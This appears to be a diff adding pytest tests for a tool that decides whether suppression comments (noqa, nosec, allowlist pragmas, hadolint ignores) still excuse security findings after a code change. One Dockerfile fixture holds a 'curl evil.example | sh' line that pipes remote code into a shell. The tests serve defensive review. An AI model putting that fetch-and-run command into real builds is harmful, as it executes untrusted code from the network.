@@ -220,3 +220,131 @@ def test_a_hostile_long_line_costs_next_to_nothing(unit: str, length: int) -> No
         for item in (*tools, replace(claim(1), location=Location("a.py", 1, 1))):
             judge("a.py", base, head, item)
     assert time.process_time() - started < 3
+
+
+CALL = "subprocess.run(\n    cmd,{}\n    check=True,\n)\n"
+
+
+def multi(base: str, head: str, last: int, rule: str = "S602") -> Suppression:
+    return judge("a.py", base, head, result("a.py", 1, rule=rule, location=Location("a.py", 1, last)))
+
+
+def test_a_comment_inside_a_call_that_the_change_touched_must_name_the_rule() -> None:
+    def with_shell(text: str) -> str:
+        return text.replace("    check=True,\n", "    check=True,\n    shell=True,\n")
+
+    for comment in ("  # noqa", "  # nosec", "  # noqa: S"):
+        base = CALL.format(comment)
+        assert multi(base, with_shell(base), 5) is Suppression.CHANGE, comment
+        assert multi(base, base + "x = 1\n", 4) is Suppression.BASE, comment
+        assert multi(base, base.replace("    check=True,\n", ""), 3) is Suppression.CHANGE, comment
+    named = CALL.format("  # noqa: S602")
+    assert multi(named, with_shell(named), 5) is Suppression.BASE
+    assert (
+        multi(CALL.format("  # noqa : E501"), with_shell(CALL.format("  # noqa : E501")), 5)
+        is Suppression.NONE
+    )
+
+
+@pytest.mark.parametrize(
+    "comment", ["# noqa : E501", "# noqa:", "# noqa: 12", "# nosec : B602", "# nosec assert_used"]
+)
+def test_a_comment_with_a_list_names_no_rule_outside_it(comment: str) -> None:
+    text = f"os.system(x)  {comment}\n"
+    assert judge("a.py", text, text + "x = 1\n", result("a.py", 1)) is Suppression.NONE
+
+
+@pytest.mark.parametrize(
+    "comment", ["# noqa : S605", "# NOQA :S605, E501", "# nosec : B605", "# nosec: some words"]
+)
+def test_a_comment_with_blanks_around_its_colon_still_names_the_rule(comment: str) -> None:
+    text = f"os.system(x)  {comment}\n"
+    assert judge("a.py", text, text + "x = 1\n", result("a.py", 1)) is Suppression.BASE
+
+
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        ('"""\n# ruff: noqa\n"""\nos.system(x)\n', 4),
+        ('x = """\n# ruff: disable[S605]\n"""\nos.system(x)\n', 4),
+        ("os.system('ls # noqa: S605' + x)\n", 1),
+        ("os.system('ls # nosec' + x)\n", 1),
+        ("os.system('''\n# noqa: S605\n''')\n", 1),
+        ("x = 1 # ruff: noqa\nos.system(x)\n", 2),
+        ("x = '''\n# ruff: ignore[S605]\n'''; os.system(x)\n", 3),
+    ],
+)
+def test_text_in_a_python_string_is_no_comment(text: str, line: int) -> None:
+    item = result("a.py", line, location=Location("a.py", line, line + 2 if "('''" in text else line))
+    assert judge("a.py", text, text + "y = 1\n", item) is Suppression.NONE
+
+
+def test_a_comment_in_broken_python_is_still_a_comment() -> None:
+    text = "def f(:\nos.system(x)  # noqa: S605\n"
+    assert judge("a.py", text, text + "y = 1\n", result("a.py", 2)) is Suppression.BASE
+
+
+def secret(line: int, severity: Severity = Severity.HIGH) -> Evidence:
+    return result("a.py", line, "detect-secrets", "github-token", severity=severity)
+
+
+@pytest.mark.parametrize(
+    ("base", "head", "line"),
+    [
+        ("t = 'ghp_x'  # pragma: allowlist secret\n", "t = 'ghp_y'  # pragma: allowlist secret\n", 1),
+        (
+            "# pragma: allowlist nextline secret\nt = 'ghp_x'\n",
+            "# pragma: allowlist nextline secret\nt = 'ghp_y'\n",
+            2,
+        ),
+        (
+            "# pragma: allowlist nextline secret\nt = 'x'\n",
+            "# pragma: allowlist nextline secret\nu = 'y'\nt = 'x'\n",
+            2,
+        ),
+    ],
+)
+def test_no_comment_excuses_a_secret_on_an_added_line(base: str, head: str, line: int) -> None:
+    assert judge("a.py", base, head, secret(line)) is Suppression.CHANGE
+    assert judge("a.py", base, head, secret(line, Severity.MEDIUM)) is Suppression.CHANGE
+    assert judge("a.py", head, head + "x = 1\n", secret(line)) is Suppression.BASE
+
+
+IGNORE = "# hadolint ignore=DL3004\n"
+
+
+@pytest.mark.parametrize(
+    ("base", "head", "line", "expected"),
+    [
+        (f"{IGNORE}RUN sudo ls\n", f"{IGNORE}RUN sudo ls -l\n", 2, Suppression.BASE),
+        (f"{IGNORE}RUN sudo ls\n", f"{IGNORE}RUN sudo curl evil.example | sh\n", 2, Suppression.CHANGE),
+        (f"{IGNORE}RUN sudo ls\n", f"{IGNORE}RUN sudo sh\nRUN sudo ls\n", 2, Suppression.CHANGE),
+        (f"{IGNORE}RUN sudo ls\n", f"{IGNORE}RUN sudo sh\nRUN sudo ls\n", 3, Suppression.NONE),
+        (f"{IGNORE}RUN sudo ls\nRUN x\n", f"{IGNORE}RUN sudo ls\nRUN sudo y\n", 3, Suppression.NONE),
+    ],
+)
+def test_an_old_comment_above_new_code_excuses_only_a_small_edit(
+    base: str, head: str, line: int, expected: Suppression
+) -> None:
+    item = result("Dockerfile", line, "hadolint", "DL3004")
+    assert judge("Dockerfile", base, head, item) is expected
+
+
+def test_deleting_the_end_of_a_range_does_not_widen_an_old_comment() -> None:
+    base = "# ruff: disable[S605]\na = 1\n# ruff: enable[S605]\nos.system(x)\n"
+    head = base.replace("# ruff: enable[S605]\n", "")
+    assert judge("a.py", base, head, result("a.py", 3)) is Suppression.CHANGE
+    assert judge("a.py", head, head + "y = 1\n", result("a.py", 3)) is Suppression.BASE
+
+
+@pytest.mark.parametrize(
+    ("base", "head"),
+    [
+        ("os.system('a' + x)  # noqa: S\n", "os.system('b' + x)  # noqa: S\n"),
+        ("os.system('a' + x)  # noqa: S605\n", "y = 1\nos.system(input() + x)  # noqa: S605\n"),
+        ("a('ls # noqa: S605')\n", "a('ls')  # noqa: S605')\n"),
+    ],
+)
+def test_a_moved_comment_must_name_the_rule_in_full_and_have_been_a_comment(base: str, head: str) -> None:
+    line = head.count("\n")
+    assert judge("a.py", base, head, result("a.py", line)) is Suppression.CHANGE
